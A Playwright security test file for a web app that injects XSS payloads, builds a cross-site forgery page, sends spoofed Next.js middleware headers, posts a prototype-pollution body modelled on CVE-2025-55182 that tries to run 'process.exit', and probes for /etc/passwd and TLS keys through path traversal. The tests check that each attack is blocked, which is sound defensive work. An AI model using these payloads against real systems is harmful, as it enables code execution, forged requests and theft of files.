import { request as httpsRequest } from 'node:https';
import type { Browser } from '@playwright/test';
import { expect, test } from './fixtures/berth.ts';
import { apiCall } from './helpers/api-call.ts';
import { ALARM, listenForAlarms } from './helpers/page-alarms.ts';
import { startStranger } from './helpers/stranger-site.ts';

/** Every page below comes from a server that others may keep busy. */
test.slow();

/** Markup as an attacker would like to have it in one of our pages; each part says what it is when it runs. */
const INJECTED = `
<script>${ALARM}('an inline script')</script>
<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${ALARM}('a script with a nonce of its own')</script>
<script src="data:text/javascript,${ALARM}('a script in its address')"></script>
<script src="https://stranger.invalid/x.js"></script>
<img src="/none" onerror="${ALARM}('an image that fails')">
<svg onload="${ALARM}('a drawing')"></svg>
<details open ontoggle="${ALARM}('a toggle')"></details>
<iframe srcdoc="<script>parent.${ALARM}('a frame')</script>"></iframe>
<iframe src="data:text/html,x"></iframe>
<object data="data:text/html,<script>parent.${ALARM}('an object')</script>"></object>
<base href="https://stranger.invalid/">
<link rel="stylesheet" href="https://stranger.invalid/x.css">
<img src="https://stranger.invalid/x.png">
<style>body { background: red }</style>
<a id="injected-link" href="javascript:${ALARM}('a link')">link</a>`;

/** A page of ours with INJECTED in it, behind its policy or not, and what a person would be tricked into doing there. */
async function showInjected(browser: Browser, url: string, policy: boolean) {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const alarms = await listenForAlarms(context, new URL(url).origin);
  const page = await context.newPage();
  const asked: string[] = [];
  await page.route('https://stranger.invalid/**', (route) => {
    asked.push(new URL(route.request().url()).pathname);
    return route.abort();
  });
  await page.route(url, async (route) => {
    const answer = await route.fetch();
    const headers = answer.headers();
    if (!policy) delete headers['content-security-policy'];
    const body = (await answer.text()).replace('<div class="app-root">', `$&${INJECTED}`);
    await route.fulfill({ response: answer, headers, body });
  });
  await page.goto(url);
  await page.evaluate((alarm) => {
    document.getElementById('injected-link')?.click();
    setTimeout(`${alarm}('a text as code')`);
    fetch('https://stranger.invalid/leak').catch(() => undefined);
  }, ALARM);
  const heard = (kind: string) => alarms.heard.filter((one) => one.startsWith(`${kind} `));
  const submit = () =>
    page.evaluate(() => {
      const form = document.createElement('form');
      Object.assign(form, { action: 'https://stranger.invalid/form', method: 'post' });
      document.body.append(form);
      form.submit();
    });
  return { asked, heard, submit, [Symbol.asyncDispose]: () => context.close() };
}

test('what is injected into a page does not run, and is reported; without the policy it would', async ({
  berth,
  browser,
}) => {
  const url = `${berth.url}/login`;
  await using behind = await showInjected(browser, url, true);
  const reported = (directive: string) =>
    expect
      .poll(() => behind.heard('policy').join('\n'), directive)
      .toMatch(new RegExp(`^policy ${directive}`, 'm'));
  for (const directive of [
    ...['script-src-elem inline', 'script-src-elem data', 'script-src-elem https', 'script-src-attr inline'],
    ...['script-src eval', 'frame-src', 'object-src data', 'base-uri', 'style-src-elem inline'],
    ...['style-src-elem https', 'img-src', 'connect-src'],
  ])
    await reported(directive);
  await behind.submit();
  await reported('form-action');
  expect([...behind.heard('ran'), ...behind.heard('dialog'), ...behind.asked]).toEqual([]);

  await using bare = await showInjected(browser, url, false);
  for (const what of [
    ...[
      'an inline script',
      'a script with a nonce of its own',
      'a script in its address',
      'an image that fails',
    ],
    ...['a drawing', 'a toggle', 'a frame', 'a link', 'a text as code'],
  ])
    await expect.poll(() => bare.heard('ran'), what).toContain(`ran ${what}`);
  await bare.submit();
  for (const path of ['/x.js', '/x.css', '/x.png', '/leak', '/form'])
    await expect.poll(() => bare.asked, path).toContain(path);
  expect(bare.heard('policy')).toEqual([]);
});

/** All that a page of somebody else's can send with the browser's cookies; `window.tried` is what came of it. */
const strangerPage = (home: string) => `<!doctype html><title>stranger</title>
<iframe name="inside" src="${home}/login"></iframe>
<form id="form" method="post" enctype="text/plain" target="inside" action="${home}/api/trpc/guest.create">
<input name='{"name":"forged-form","x":"' value='"}'></form>
<script>
const home = ${JSON.stringify(home)};
const body = name => JSON.stringify({ name });
const post = (path, name, more) => fetch(home + path, { method: 'POST', credentials: 'include', body: body(name), ...more });
const said = promise => promise.then(answer => answer.type + ' ' + answer.status, () => 'refused');
const socket = path => new Promise(resolve => {
  const one = new WebSocket(home.replace('https', 'wss') + path);
  one.onopen = () => resolve('open');
  one.onerror = () => resolve('refused');
});
window.tried = (async () => ({
  simple: await said(post('/api/trpc/guest.create', 'forged-simple', { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })),
  asJson: await said(post('/api/trpc/guest.create', 'forged-json', { headers: { 'content-type': 'application/json', 'x-berth': '1' } })),
  signOut: await said(post('/api/auth/sign-out', '', { mode: 'no-cors' })),
  read: await said(fetch(home + '/api/trpc/guest.list', { credentials: 'include' })),
  readBlind: await said(fetch(home + '/api/trpc/guest.list', { credentials: 'include', mode: 'no-cors' })),
  stream: await socket('/api/trpc'),
  console: await socket('/api/console?ticket=x'),
  exec: await socket('/api/exec?ticket=x'),
}))();
document.getElementById('form').submit();
</script>`;

test('a page of another port, to which the browser gives our cookie, changes and reads nothing', async ({
  signedIn: page,
  berth,
  context,
}) => {
  await using stranger = await startStranger(berth, strangerPage(berth.url));
  const cookies: Promise<string>[] = [];
  const answered: { url: string; status: number }[] = [];
  const other = await context.newPage();
  other.on('response', (response) => {
    if (!response.url().includes('/api/')) return;
    answered.push({ url: response.url(), status: response.status() });
    cookies.push(
      response
        .request()
        .allHeaders()
        .then((headers) => headers.cookie ?? ''),
    );
  });
  await other.goto(stranger.url);
  const tried = await other.evaluate(() => Reflect.get(window, 'tried'));
  expect(tried).toEqual({
    ...{ simple: 'refused', asJson: 'refused', signOut: 'refused', read: 'refused', readBlind: 'refused' },
    ...{ stream: 'refused', console: 'refused', exec: 'refused' },
  });
  // the guard, not the browser, refused them: they came with the session's cookie
  await expect
    .poll(() => answered.map(({ url }) => new URL(url).pathname))
    .toContain('/api/trpc/guest.create');
  expect(answered.filter(({ status }) => status !== 403 && status !== 404)).toEqual([]);
  expect((await Promise.all(cookies)).filter((cookie) => cookie.includes('__Host-'))).not.toEqual([]);
  // nor does our page show itself in theirs
  const inside = other.frames().find((frame) => frame.name() === 'inside');
  await expect.poll(() => inside?.url()).toMatch(/^chrome-error:/);

  // a window that they open tells them nothing, and cannot be steered
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    other.evaluate((url) => {
      Reflect.set(window, 'theirs', window.open(url));
    }, `${berth.url}/guests`),
  ]);
  await opened.waitForURL('**/guests');
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  expect(await other.evaluate(() => Reflect.get(window, 'theirs').closed)).toBe(true);
  await opened.close();

  expect(await berth.berthJson<object[]>(['guest', 'ls'])).toEqual([]);
  // the control: the session is as it was, and our own page may
  expect(await apiCall(page, 'guest.create', { name: 'ours' })).toMatchObject({ status: 200 });
  await other.close();
});

interface PageAnswer {
  status: number;
  body: string;
}

/** One request to the web process as it is, without a browser's rules. */
function raw(
  url: string,
  options: { method?: string; path?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<PageAnswer> {
  const { method = 'GET', path = '/guests', headers = {}, body } = options;
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const sent = httpsRequest(
      { hostname, port, method, path, headers, rejectUnauthorized: false, agent: false },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => {
          text += chunk;
        });
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body: text }));
      },
    );
    sent.on('error', reject);
    sent.end(body);
  });
}

/** What differs from answer to answer by itself. */
const steady = ({ status, body }: PageAnswer) =>
  `${status} ${body.replace(/nonce[=:\\"']+[\w+/=]+/g, 'nonce').replace(/"?\d{13}"?/g, 'now')}`;

test('what Next says to itself opens nothing', async ({ berth }) => {
  const plain = await raw(berth.url);
  expect(plain.status).toBe(200);
  const chain = Array(5).fill('src/middleware').join(':');
  const told: Record<string, string>[] = [
    { 'x-middleware-subrequest': chain },
    { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
    { 'x-middleware-subrequest': 'pages/_middleware' },
    { 'x-middleware-prefetch': '1', 'x-nextjs-data': '1' },
    {
      'x-middleware-invoke': '1',
      'x-middleware-override-headers': 'host',
      'x-middleware-request-host': 'evil',
    },
    { 'x-middleware-rewrite': 'http://stranger.invalid/', 'x-middleware-next': '1' },
    { 'x-matched-path': '/admin', 'x-invoke-path': '/admin', 'x-invoke-status': '200' },
    { 'x-invoke-error': '{"message":"x"}', 'x-invoke-output': '/admin' },
    { 'x-now-route-matches': '1=admin', 'x-vercel-id': 'x' },
    { 'x-prerender-revalidate': 'x', 'x-prerender-bypass-mode': 'always' },
    { 'next-action': 'x', 'next-router-state-tree': '%5B%22%22%5D' },
    { 'x-forwarded-host': 'stranger.invalid', 'x-forwarded-proto': 'http' },
  ];
  for (const headers of told)
    expect(steady(await raw(berth.url, { headers })), JSON.stringify(headers)).toBe(steady(plain));
});

/** A body as those that made React's decoder run code (CVE-2025-55182): its promise is an object of the sender's. */
const FLIGHT = [
  '--x',
  'Content-Disposition: form-data; name="0"',
  '',
  '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.exit(77);","_formData":{"get":"$1:constructor:constructor"}}}',
  '--x',
  'Content-Disposition: form-data; name="1"',
  '',
  '"$@0"',
  '--x--',
  '',
].join('\r\n');

test('no body reaches React, no address leaves the pages', async ({ berth }) => {
  const pids = async () => (await berth.berthJson<{ processes: { web: number } }>(['status'])).processes.web;
  const before = await pids();
  const form = { 'content-type': 'multipart/form-data; boundary=x' };
  const kinds: Record<string, string>[] = [
    { ...form, 'next-action': 'x' },
    { ...form, 'next-action': '00'.repeat(21), 'next-router-state-tree': '%5B%22%22%5D' },
    { 'content-type': 'text/x-component', rsc: '1' },
    form,
  ];
  for (const path of ['/', '/guests', '/login', '/none', '/_next/x', '/guests?_rsc=1'])
    for (const headers of kinds)
      expect(
        await raw(berth.url, { method: 'POST', path, headers, body: FLIGHT }),
        `${path} ${JSON.stringify(headers)}`,
      ).toEqual({ status: 405, body: 'pages are only read: GET or HEAD\n' });

  await using stranger = await startStranger(berth, 'theirs');
  const theirs = encodeURIComponent(stranger.url);
  const outside = [
    `/_next/image?url=${theirs}&w=64&q=75`,
    `/_next/image?url=%2F%2F${new URL(stranger.url).host}&w=64&q=75`,
    `/login?next=${theirs}`,
    ...['/_next/static/../../../../../../etc/passwd', '/_next/static/..%2f..%2f..%2f..%2fetc/passwd'],
    ...['/..%2f..%2f..%2fetc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/_next/static/%2e%2e/%2e%2e/server.js'],
    ...['/app/_web/main.ts', '/.next/BUILD_ID', '/tls/key.pem', '/../tls/key.pem', '/_next/../tls/key.pem'],
    ...['/api/../guests', '/api/%2e%2e/healthz', '/healthz', '/api/healthz'],
  ];
  for (const path of outside) {
    const { status, body } = await raw(berth.url, { path });
    expect(body, path).not.toMatch(/root:x:0|PRIVATE KEY|createFront|"ok":true/);
    expect(status, path).toBeLessThan(500);
  }
  expect(stranger.asked, 'nobody was sent to ask them').toEqual([]);
  expect(await pids(), 'it is still the same process').toEqual(before);
});
